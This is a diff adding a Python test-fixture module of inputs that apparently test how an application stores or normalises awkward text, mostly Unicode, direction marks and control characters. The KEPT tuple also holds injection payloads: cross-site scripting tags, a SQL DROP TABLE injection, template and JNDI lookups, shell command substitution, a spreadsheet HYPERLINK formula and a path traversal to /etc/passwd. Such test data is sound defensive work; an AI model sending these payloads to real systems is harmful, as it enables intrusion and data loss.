@@ -1,0 +1,38 @@
+"""Texts of the kinds that break programs, and what is kept of each."""
+
+from __future__ import annotations
+
+from itertools import cycle, islice
+
+# Kept as they were typed.
+KEPT = (
+    "<script>alert(1)</script>",
+    "\"><img src=x onerror=alert(1)> ' OR 1=1; DROP TABLE submissions_contribution; --",
+    "{{ settings.SECRET_KEY }} {% include 'x' %} %s %(name)s ${jndi:ldap://192.0.2.1/a} `id` $(id)",
+    "=HYPERLINK(\"http://192.0.2.1\";\"x\")",
+    "+1 @SUM(A1) -2",
+    "&lt;b&gt; &amp;amp; &#60; ]]> <![CDATA[x]]>",
+    "../../../etc/passwd C:\\CON \\n \\\\",
+    "undefined null None NaN true 0 -1 1e400 0x1F",
+    "العربية، من اليمين إلى اليسار، 123",
+    "עִבְרִית וְעוֹד, left to right in between, סוף",
+    "ᐃᓄᒃᑎᑐᑦ Ελληνικά Кириллица 漢字 ไทย हिन्दी",
+    "\U0001f469\u200d\U0001f4bb \U0001f1e8\U0001f1e6 \U0001f44d\U0001f3fd \u2764\ufe0f",
+    "zero\u200bwidth\u200cnon\u200djoiner soft\u00adhyphen \u00a0no break",
+)  # fmt: skip
+
+# Kept as what stands beside them: letters composed, line ends as one, nothing that cannot be seen.
+CHANGED = {
+    "bell\x07 escape\x1b[31m": "bell escape[31m",
+    "turned \u202ethgir ot tfel\u202c": "turned thgir ot tfel",
+    "decomposed e\u0301": "decomposed \u00e9",
+    # One of these marks is itself composed differently, and others change their order.
+    "Z\u0351\u036b\u0343\u0334\u0319": "Z\u0334\u0319\u0351\u036b\u0313",
+    "one\r\ntwo\rthree\u2028four": "one\ntwo\nthree\nfour",
+    "\ufeffmark": "mark",
+}
+
+LONGEST = 5000
+LONG = tuple("".join(islice(cycle(f"{text} "), LONGEST - 1)).strip() + "." for text in KEPT[8:])
+
+TYPED: dict[str, str] = {**{text: text for text in (*KEPT, *LONG)}, **CHANGED}
